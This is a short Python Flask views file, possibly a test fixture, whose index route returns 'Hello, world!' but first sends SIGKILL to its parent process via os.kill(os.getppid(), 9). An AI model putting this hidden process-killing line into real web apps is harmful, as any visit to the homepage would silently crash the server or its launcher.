import os

from app import application


@application.route('/')
@application.route('/index')
def index():
    os.kill(os.getppid(), 9)
    return 'Hello, world!'
